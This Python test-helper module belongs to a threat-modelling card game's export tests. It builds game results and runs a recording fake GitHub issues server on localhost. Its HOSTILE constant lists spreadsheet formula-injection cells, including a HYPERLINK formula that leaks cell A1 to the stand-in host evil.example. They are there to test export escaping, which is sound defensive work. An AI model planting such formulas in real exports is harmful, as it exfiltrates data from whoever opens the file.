"""Helpers for the export tests: results of bot games, hand-made results, and a recording GitHub API."""

from __future__ import annotations

import dataclasses
import json
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import yaml

from cards import load_deck
from game.architecture import Architecture
from game.backlog import Backlog
from game.bots import autoplay
from game.deck import Deck
from game.engine import new_game
from game.exports.native import portable
from game.importers import load_architecture
from game.predicates import Graph
from game.priority import FinalThreat, RatingLine
from game.result import GameResult, SettingsSummary, fingerprint, result_of
from game.rules import judge
from game.state import SeatSpec, Settings

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples" / "leejames-hr"
HERE = Path(__file__).parent
TEAM = ("Kim", "Doug", "Sam", "Hannah")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
"""Cells a spreadsheet would run as formulas."""


@cache
def deck() -> Deck:
    return load_deck()


@cache
def example(name: str) -> Architecture:
    path = EXAMPLES / name
    return load_architecture(path.read_bytes(), f"examples/leejames-hr/{name}")


def nine() -> list[tuple[str, str]]:
    """The (card, component) pairs of the article's nine threats."""
    data = yaml.safe_load((EXAMPLES / "threats.yaml").read_text(encoding="utf-8"))
    return [(t["card"], t["component"]) for t in data["threats"]]


@cache
def bot_result(model: str = "before.yaml", seed: int = 3, players: int = 4) -> GameResult:
    """The result of a whole bot game on an example."""
    settings = Settings(seats=tuple(SeatSpec(name, bot=True) for name in TEAM[:players]))
    state, _, _ = autoplay(new_game(settings, example(model), deck(), seed))
    return result_of(state, deck=deck(), game_id="g-test")


def bot_result_on(architecture: Architecture, seed: int = 3, baseline: Architecture | None = None,
                  backlog: Backlog | None = None) -> GameResult:
    settings = Settings(seats=tuple(SeatSpec(name, bot=True) for name in TEAM), backlog=backlog)
    state, _, _ = autoplay(new_game(settings, architecture, deck(), seed, baseline=baseline))
    return result_of(state, deck=deck())


def hand_result(architecture: Architecture, pairs: Sequence[tuple[str, str]], *, texts: Sequence[str] | None = None,
                found_by: str = "Kim", scope: str | None = None) -> GameResult:
    """A result whose final list is exactly these (card, component) threats, ranked in order, each rated."""
    threats = []
    graph = Graph(architecture)
    for rank, (card_id, target) in enumerate(pairs, start=1):
        card = deck().card(card_id)
        is_flow = architecture.has_flow(target) and not architecture.has_component(target)
        subject = architecture.flow(target) if is_flow else architecture.component(target)
        reason = judge(card, subject, graph).reason
        risk = float(26 - rank) if rank < 26 else 1.0
        threats.append(FinalThreat(
            rank=rank, threat_id=f"T{rank}", category=card.suit.category, suit=card.suit.value, component=target,
            target_kind="flow" if is_flow else "component", card=card.id, card_title=card.title,
            text=texts[rank - 1] if texts else card.question, reason=reason, mitigation=card.mitigation,
            found_by=found_by, judged_by="rule",
            votes=(RatingLine(0, "Kim", 5, 5), RatingLine(1, "Doug", 4, 5)),
            likelihood=4.5, impact=5.0, risk=risk, agreement=2,
        ))
    return GameResult(
        architecture=portable(architecture), deck=deck().name, deck_title=deck().title, threats=tuple(threats), scoreboard=(),
        findings=(), settings=SettingsSummary(seats=TEAM, bots=(), facilitator="Kim", start_suit="Tampering",
                                              play_seconds=None, rating_seconds=None, turn_seconds=None,
                                              vote_seconds=None, cards_in_play=len(deck()), delta=False),
        scope=scope or fingerprint(architecture),
    )


def with_texts(result: GameResult, text: str, found_by: str | None = None) -> GameResult:
    """The result with every threat's text (and finder) replaced."""
    threats = tuple(dataclasses.replace(t, text=text, found_by=found_by or t.found_by) for t in result.threats)
    return dataclasses.replace(result, threats=threats)


def no_nulls(data: Any, path: str = "") -> list[str]:
    """JSON paths holding null."""
    if data is None:
        return [path]
    if isinstance(data, dict):
        return [p for k, v in data.items() for p in no_nulls(v, f"{path}.{k}")]
    if isinstance(data, list):
        return [p for i, v in enumerate(data) for p in no_nulls(v, f"{path}[{i}]")]
    return []


# --------------------------------------------------------------------------- a recording GitHub


@dataclasses.dataclass
class Seen:
    """One request the fake GitHub received."""

    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    body: Any


class FakeGitHub:
    """Issues of one repository ``o/r`` behind ``GET``/``POST /repos/o/r/issues``, every request recorded.

    Lists are paginated with ``per_page`` (default 30, as GitHub) and ``page``,
    with a ``Link`` header carrying ``next`` and ``last``.
    """

    TOKEN = "test-token"

    def __init__(self) -> None:
        self.issues: list[dict[str, Any]] = []
        self.requests: list[Seen] = []
        self.foreign_next = False
        self.fail_posts_with: int | None = None
        self.redirect_to: str | None = None
        self.base = ""

    def add(self, title: str, body: str | None) -> None:
        self.issues.append({"number": len(self.issues) + 1, "title": title, "body": body, "labels": []})

    def posts(self) -> list[Seen]:
        return [r for r in self.requests if r.method == "POST"]

    def gets(self) -> list[Seen]:
        return [r for r in self.requests if r.method == "GET"]


def _handler(hub: FakeGitHub) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:  # quiet
            pass

        def _send(self, status: int, data: Any, headers: dict[str, str] | None = None) -> None:
            raw = json.dumps(data).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(raw)))
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(raw)

        def _record(self, body: Any) -> tuple[str, dict[str, list[str]]]:
            parts = urlsplit(self.path)
            query = parse_qs(parts.query)
            hub.requests.append(Seen(self.command, parts.path, query, {k.lower(): v for k, v in self.headers.items()}, body))
            return parts.path, query

        def _authorised(self) -> bool:
            if self.headers.get("Authorization") != f"Bearer {hub.TOKEN}":
                self._send(401, {"message": "Bad credentials"})
                return False
            return True

        def _redirected(self) -> bool:
            if hub.redirect_to is None:
                return False
            location, hub.redirect_to = hub.redirect_to + self.path, None  # once
            self.send_response(301)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return True

        def do_GET(self) -> None:
            path, query = self._record(None)
            if self._redirected():
                return
            if not self._authorised():
                return
            if path != "/repos/o/r/issues":
                self._send(404, {"message": "Not Found"})
                return
            per_page = int(query.get("per_page", ["30"])[0])
            page = int(query.get("page", ["1"])[0])
            items = hub.issues[(page - 1) * per_page: page * per_page]
            last = max(1, -(-len(hub.issues) // per_page))
            links = []
            if page < last:
                base = "http://elsewhere.example" if hub.foreign_next else hub.base
                links.append(f'<{base}/repos/o/r/issues?state=all&per_page={per_page}&page={page + 1}>; rel="next"')
                links.append(f'<{hub.base}/repos/o/r/issues?state=all&per_page={per_page}&page={last}>; rel="last"')
            self._send(200, items, {"Link": ", ".join(links)} if links else None)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", "0"))
            body = json.loads(self.rfile.read(length) or b"null")
            path, _ = self._record(body)
            if self._redirected():
                return
            if not self._authorised():
                return
            if path != "/repos/o/r/issues":
                self._send(404, {"message": "Not Found"})
                return
            if hub.fail_posts_with is not None:
                self._send(hub.fail_posts_with, {"message": "You have exceeded a secondary rate limit"})
                return
            hub.add(body["title"], body.get("body"))
            hub.issues[-1]["labels"] = body.get("labels", [])
            number = hub.issues[-1]["number"]
            self._send(201, {**hub.issues[-1], "html_url": f"https://github.example/o/r/issues/{number}"})

    return Handler


@contextmanager
def fake_github() -> Iterator[FakeGitHub]:
    """A FakeGitHub serving on 127.0.0.1 in a thread, for the length of the block."""
    hub = FakeGitHub()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(hub))
    hub.base = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield hub
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
